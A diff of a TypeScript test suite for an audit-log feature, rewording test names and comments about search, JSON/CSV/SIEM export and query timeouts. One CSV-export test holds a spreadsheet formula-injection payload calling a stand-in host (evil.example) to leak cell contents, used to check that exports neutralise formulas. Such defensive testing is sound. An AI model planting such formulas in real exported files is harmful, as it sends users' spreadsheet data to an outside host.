@@ -194,7 +194,7 @@ describe("a list of the audit trail", () => {
     }
   });
 
-  it("AUDIT-03: is searched by the name of a user, target, host or event, by address and by id", async () => {
+  it("AUDIT-03: can be searched by the name of a user, target, host or event, by email address and by id", async () => {
     const idsOf = (is: (entry: AuditEntry) => boolean) => newestFirst.filter(is).map(({ id }) => id);
     // Pending entries are searched by the same names.
     const searches: [string, (entry: AuditEntry) => boolean][] = [
@@ -219,7 +219,7 @@ describe("a list of the audit trail", () => {
     assert.deepEqual(await listed(narrowed), idsOf(both));
   });
 
-  it("API-88, API-89: accepts the parameter names of the documents too", async () => {
+  it("API-88, API-89: also accepts the parameter names that the documents use", async () => {
     const billing = await listed({ search: "billing" });
     assert.ok(billing.length > 0 && billing.length < entries.length);
     assert.deepEqual(await listed({ search_term: "billing" }), billing);
@@ -258,7 +258,7 @@ describe("a list of the audit trail", () => {
   });
 });
 
-it("a period is split into whole days and hours that are counted already, and the minutes at its ends", () => {
+it("a period is split into whole days and hours, which are counted already, and the remaining minutes at both ends", () => {
   const hour = 3_600_000;
   for (const [from, to] of [
     [0.5, 0.7],
@@ -288,7 +288,7 @@ it("a period is split into whole days and hours that are counted already, and th
 describe("an export of the audit trail", () => {
   const exported = (query: object) => trail.call(exportAuditLogs, { query, as: "manager" } as never);
 
-  it("AUDIT-19, AUDIT-20: contains as JSON the logs, filters, export time and count, and is audited", async () => {
+  it("AUDIT-19, AUDIT-20: contains the logs, filters, export time and count as JSON, and is audited", async () => {
     trail.at("2026-11-21T23:30:00.000Z");
     const answer = await exported({ view: "critical" });
     assert.match(String(answer.headers["content-disposition"]), /filename="audit-logs-2026-11-21.json"/);
@@ -312,7 +312,7 @@ describe("an export of the audit trail", () => {
     assert.equal((await exported({ limit: 10_001 })).status, 400);
   });
 
-  it("contains as CSV a line per entry, without formulas in names", async () => {
+  it("contains one line per entry as CSV, without formulas in names", async () => {
     const name = '=HYPERLINK("https://evil.example/?"&A1)';
     const target = { type: "safe", id: randomUUID(), name };
     await trail.record(1, { target, reason: "x;=1+1" }, "safe.created");
@@ -324,7 +324,7 @@ describe("an export of the audit trail", () => {
     for (const cell of Object.values(line)) assert.doesNotMatch(cell, /^\s*[=+\-@]/);
   });
 
-  it("contains as SIEM lines one line per entry, with its id", async () => {
+  it("contains one line per entry, with its id, in SIEM formats", async () => {
     for (const format of ["rfc5424", "cef", "ocsf"]) {
       const answer = await exported({ format, event: "account.retrieved" });
       const wanted = matching({ event: "account.retrieved" });
@@ -341,7 +341,7 @@ it("a search that takes too long is stopped with a hint; an export has no such l
   config.auditSearchSeconds = 0.2;
   const busy = await database.pool.connect();
   try {
-    // Locks the names: to the search this looks like a table that takes too long to read.
+    // Locks the table of names, so that the search waits as if reading the table took too long.
     await busy.query("begin");
     await busy.query("lock table audit_names in access exclusive mode");
     const query = { search: "billing" };
@@ -363,7 +363,7 @@ it("a search that takes too long is stopped with a hint; an export has no such l
     const exported = await exporting;
     assert.equal(exported.status, 200, exported.text);
     assert.ok(exported.text.includes("Billing database"));
-    // Restore the usual limit: on a busy machine any search may exceed the short one.
+    // Restore the default limit: on a busy machine any search may exceed the short limit.
     config.auditSearchSeconds = usual;
     assert.equal((await trail.call(listAuditEntries, { query, as: "manager" } as never)).status, 200);
   } finally {
